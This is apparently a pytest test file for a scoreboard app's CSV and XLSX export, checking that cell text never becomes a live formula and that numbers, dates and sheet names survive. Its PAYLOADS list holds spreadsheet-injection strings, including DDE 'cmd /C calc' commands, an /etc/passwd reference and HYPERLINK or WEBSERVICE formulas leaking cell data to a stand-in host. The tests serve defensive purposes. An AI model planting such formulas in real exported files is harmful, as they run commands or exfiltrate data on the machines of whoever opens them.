"""S7: no text of ours is a formula in a CSV or an XLSX, and every value comes back as it was."""

import csv
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from scorekeeper.spreadsheets.table import DataTable, Value, figure
from scorekeeper.spreadsheets.writing import as_typed, csv_file, file_response, safe_text, worksheet_name, xlsx_file

PAYLOADS = (
    "=1+1",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|'/C calc.exe'!Z0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://x.test/?leak="&A1,"ada")',
    '=IMPORTXML(CONCAT("http://x.test/?v=",A1),"//a")',
    '=WEBSERVICE("http://x.test/")',
    '=IMAGE("http://x.test/a.png")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+ada",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-30",
    "--ada",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@ada",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tada",
    "\rada",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2066=1+1\u2069",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "ada;=1+1",
    "ada\t=1+1",
    "ada\n=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
)
PLAIN = (
    "ada",
    "",
    "007",
    "1=1",
    "ada-bo",
    "a;b",
    "O'Neil",
    "'ada",
    "ada & bo",
    "Zoë, 漢字",
    '"ada"',
    "<b>ada</b>",
    "½",
)


def table_of(*values: Value) -> DataTable:
    return DataTable("Ada's", ("name",), tuple((value,) for value in values))


def cells_of_csv(file: bytes) -> list[str]:
    """The first cell of every row below the heads."""
    return [row[0] for row in csv.reader(StringIO(file.decode("utf-8-sig"), newline=""))][1:]


def cells_of_xlsx(file: bytes) -> list[tuple[str, object]]:
    """(kind, value) of the first cell of every row below the heads."""
    sheet = load_workbook(BytesIO(file)).active
    return [(row[0].data_type, row[0].value) for row in sheet.iter_rows(min_row=2)]


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_text_begins_a_formula_in_a_csv_and_it_comes_back_as_typed(text):
    """S7: neither where a comma parts the cells nor where a semicolon, a tab or a new line does."""
    (cell,) = cells_of_csv(csv_file([table_of(text)]))
    for part in re.split(r"[;\t\r\n]", cell):
        assert not re.match(r"[\s\ufeff\u200b\u2066]*[=+\-@＝＋－＠]", part), cell
    assert not cell.startswith(("\t", "\r", "\n")) and as_typed(cell) == text


@pytest.mark.parametrize("text", PAYLOADS + PLAIN[:1])
def test_a_text_is_a_text_in_an_xlsx_and_comes_back_whole(text):
    """S7: read by another library. What would be a formula once the cell is edited is marked as a text, too."""
    file = xlsx_file([table_of(text)])
    ((kind, value),) = cells_of_xlsx(file)
    assert (kind, unescape(value)) == ("s", text)
    cell = load_workbook(BytesIO(file)).active["A2"]
    assert cell.quotePrefix == (safe_text(text) != text)


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stands_as_it_is(text):
    assert safe_text(text) == as_typed(text) == text


@given(st.text(alphabet="=+-@＝'ab;\t\r\n \u200b\"", max_size=12))
def test_every_text_comes_back(text):
    assert as_typed(safe_text(text)) == text
    assert cells_of_csv(csv_file([table_of(text)])) == [safe_text(text)]


def test_a_number_stays_a_number():
    """S7: a score of −30 is no text, however it is written on the sheet."""
    table = table_of(-30, figure("−30"), figure("-3.5"), 0, 121)
    assert cells_of_csv(csv_file([table])) == ["-30", "-30", "-3.5", "0", "121"]
    assert cells_of_xlsx(xlsx_file([table])) == [("n", -30), ("n", -30), ("n", -3.5), ("n", 0), ("n", 121)]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("12", 12),
        ("−30", -30),
        ("+8", 8),
        ("3.65", Decimal("3.65")),
        ("2½", Decimal("2.5")),
        ("−½", Decimal("-0.5")),
        ("out", "out"),
        ("", ""),
        ("2 & 0", "2 & 0"),
    ],
)
def test_a_figure_is_a_number_where_it_is_one(text, value):
    assert figure(text) == value and type(figure(text)) is type(value)


def test_figures_of_other_scripts_and_huge_ones_stay_as_they_are_written():
    assert figure("١٣") == "١٣" and figure("9" * 400) == "9" * 400


def test_half_letters_and_huge_texts_are_written_as_far_as_a_file_can_hold_them():
    table = table_of("\ud800ada", "a" * 40_000)
    assert cells_of_csv(csv_file([table]))[0] == "?ada"
    (_, first), (_, second) = cells_of_xlsx(xlsx_file([table]))
    assert first == "?ada" and second == "a" * 32_000


def test_one_table_begins_with_its_heads_and_several_have_titles():
    one, two = DataTable("A", ("rank", "name"), ((1, "ada"),)), DataTable("=B", ("x",), ((2,),))
    assert csv_file([one]).decode("utf-8-sig") == "rank,name\r\n1,ada\r\n"
    assert csv_file([one, two]).decode("utf-8-sig") == "A\r\nrank,name\r\n1,ada\r\n\r\n'=B\r\nx\r\n2\r\n"
    assert load_workbook(BytesIO(xlsx_file([one, two]))).sheetnames == ["A", "=B"]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Hearts: [1/2]", "Hearts 1 2"),
        ("history", "history 1"),
        ("'ada'", "ada"),
        ("***", "Sheet"),
        ("", "Sheet"),
        ("x" * 40, "x" * 28),
    ],
)
def test_a_worksheet_has_a_name_that_a_workbook_allows(title, name):
    assert worksheet_name(title, []) == name
    assert worksheet_name(title, [name.upper()]) == f"{name} 2"


def test_a_moment_is_one_in_the_hours_of_this_place(settings):
    settings.TIME_ZONE = "Europe/London"
    table = table_of(datetime(2026, 7, 9, 19, 30, tzinfo=UTC))
    assert cells_of_csv(csv_file([table])) == ["2026-07-09 20:30"]
    assert cells_of_xlsx(xlsx_file([table])) == [("d", datetime(2026, 7, 9, 20, 30))]


@pytest.mark.parametrize(
    ("name", "plain"), [("Hearts", "Hearts"), ('a"b/../\r\nX: 1', "ab..X 1"), ("Белот", "table"), ("a" * 90, "a" * 60)]
)
def test_a_file_has_a_plain_dated_name(name, plain):
    answer = file_response("csv", [table_of("ada")], name=name, day=date(2026, 1, 9))
    assert answer["Content-Disposition"].startswith("attachment; filename=")
    assert answer["Content-Disposition"].split("=")[1] == f'"{plain.replace("..", "")} 2026-01-09.csv"'
